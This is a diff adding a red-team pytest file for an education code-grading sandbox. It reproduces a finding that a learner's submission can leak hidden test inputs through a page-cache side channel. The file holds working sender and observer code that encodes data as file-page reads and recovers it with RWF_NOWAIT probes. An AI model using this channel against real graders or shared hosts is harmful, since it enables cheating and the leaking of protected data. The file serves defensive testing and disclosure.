@@ -1,0 +1,146 @@
+"""Red team round rt5 (a): the code-running side, after feedback stopped quoting learners' code.
+
+Numbered tests reproduce a weakness found in this round and assert the SAFE behaviour; they are
+strict xfails until fixed. The tests under "Attacks that held" are new attacks the grader
+already stops, kept as quick regression checks.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from pruneedu.grading import sandbox
+
+sys.path.insert(0, str(Path(__file__).parent))
+from redteam_support import require_bwrap, shown_to_learner  # noqa: E402
+
+FIXTURE = Path(__file__).parent / "fixtures" / "class"
+
+
+# --- 1. A learner's own process on the grading machine reads hidden inputs in full ----------
+# Claim: docs/grading-guarantees.md accepts the page-cache channel only because its bits
+# "surface" as a few fixed texts per test ("at most log2(6), about 2.6 bits, per public test per
+# grading, against hundreds of characters"), and says the sandbox "cannot reach the grader or
+# other processes". docs/jupyterhub.md ("Collect and grade") runs `pruneedu grade` on the hub,
+# where every learner has a shell and a notebook server of their own, and nothing in the docs
+# says to grade code elsewhere. The page cache is the whole machine's: a reader outside the
+# sandbox needs no feedback at all.
+# Attack: the learner's hand-in writes every input it is given (public, then hidden) as bits of
+# which pages of a big world-readable file under /usr it reads (pages loaded = 1); the function
+# still returns the right answer, so the learner loses nothing. The learner's own process on
+# the host (here an unprivileged `nobody` process with the system Python, as a hub user would
+# be) evicts those pages before grading and afterwards asks the kernel, page by page, whether
+# they are cached (preadv2 RWF_NOWAIT: no timing, no noise).
+# Measured: the zero-fraction fixture graded with bwrap (grade_code, the grader's own path):
+# both hidden inputs come back exactly, as repr text, every try, with full marks.
+# Fix ideas: say in docs/grading-guarantees.md and docs/jupyterhub.md that code must be graded
+# on a machine (or VM) where no learner runs anything, and copy the collected files off the hub
+# first; refusing posix_fadvise/madvise in seccomp alone does not close it (loading a page
+# needs only a read, and the learner's own process can evict).
+STRIDE, REGION_BITS, REGIONS = 1 << 16, 8 * 64, 3
+
+SENDER = '''
+import os
+import numpy as np
+FILE, STRIDE, REGION_BITS = {path!r}, {stride}, {region_bits}
+_calls = [0]
+
+def _send(text):
+    fd = os.open(FILE, os.O_RDONLY)
+    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # one page per read, no read-ahead
+    data = text.encode()[:REGION_BITS // 8 - 1]
+    data = bytes([len(data)]) + data
+    base = STRIDE * (1 + _calls[0] * REGION_BITS)
+    for i in range(8 * len(data)):
+        if data[i // 8] >> (i % 8) & 1:
+            os.pread(fd, 1, base + STRIDE * i)
+    os.close(fd)
+    _calls[0] += 1
+
+def zero_fraction(weights):
+    _send(repr(weights.tolist()))
+    return float((weights == 0).mean())  # the right answer: nothing looks wrong
+'''
+
+# The learner's own process on the host: stdlib only, run by the system Python as `nobody`.
+OBSERVER = '''
+import os, sys, time
+path, stride, region_bits, regions, what = sys.argv[1:6]
+stride, region_bits, regions = int(stride), int(region_bits), int(regions)
+fd = os.open(path, os.O_RDONLY)
+os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
+pages = [stride * (1 + i) for i in range(regions * region_bits)]
+if what == "evict":
+    for _ in range(2):
+        for page in pages:
+            os.posix_fadvise(fd, page, 4096, os.POSIX_FADV_DONTNEED)
+        time.sleep(0.2)
+    sys.exit(0)
+def bit(page):
+    try:
+        os.preadv(fd, [bytearray(1)], page, os.RWF_NOWAIT)
+        return 1
+    except BlockingIOError:
+        return 0
+for region in range(regions):
+    base = region * region_bits
+    length = sum(bit(pages[base + i]) << i for i in range(8))
+    data = bytes(sum(bit(pages[base + 8 * (1 + k) + i]) << i for i in range(8))
+                 for k in range(length))
+    print(data.decode("ascii", "replace"))
+'''
+
+
+def _observer(path: str, what: str) -> list[str]:
+    """Run the learner's host process (as `nobody` where the tests run as root)."""
+    user = {"user": 65534, "group": 65534} if os.geteuid() == 0 else {}
+    done = subprocess.run(["/usr/bin/python3", "-I", "-c", OBSERVER, path, str(STRIDE),
+                           str(REGION_BITS), str(REGIONS), what],
+                          capture_output=True, text=True, timeout=60, check=True, **user)
+    return done.stdout.splitlines()
+
+
+def _world_readable_big_file() -> str | None:
+    from test_redteam_rt2 import _shared_cold_file
+
+    path = _shared_cold_file()
+    if path is None or os.stat(path).st_mode & 0o004 == 0:
+        return None
+    if os.path.getsize(path) < STRIDE * (2 + REGIONS * REGION_BITS):
+        return None
+    return path
+
+
+@pytest.mark.xfail(strict=True, reason="rt5 finding 1: a learner's own process on the grading "
+                   "machine (the hub, as docs/jupyterhub.md grades) reads every hidden input "
+                   "from the page cache, no feedback needed")
+def test_a_learners_process_on_the_grading_machine_cannot_read_hidden_inputs():
+    from pruneedu.exercises import load_exercise
+    from pruneedu.grading.codegrade import grade_code
+
+    require_bwrap()
+    if not Path("/usr/bin/python3").exists():
+        pytest.skip("no /usr/bin/python3 to play the learner's own process: test NOT run")
+    path = _world_readable_big_file()
+    if path is None:
+        pytest.skip("no big world-readable file under /usr whose pages this machine evicts on "
+                    "request: the page-cache channel cannot be shown here, test NOT run")
+    exercise = load_exercise(FIXTURE / "exercises" / "zero-fraction")
+    hidden = [repr(case.args[0].tolist()) for case in exercise.hidden_cases()]
+    code = SENDER.format(path=path, stride=STRIDE, region_bits=REGION_BITS)
+    read = []
+    for _try in range(3):  # a side channel: a few tries; one exact read-back is the finding
+        _observer(path, "evict")
+        result = grade_code(exercise, code, isolation="bwrap")
+        assert result.score == result.max_score  # the learner loses nothing by it
+        read = _observer(path, "read")
+        if read[1:1 + len(hidden)] == hidden:
+            break
+        time.sleep(0.5)
+    assert read[1:1 + len(hidden)] != hidden, read
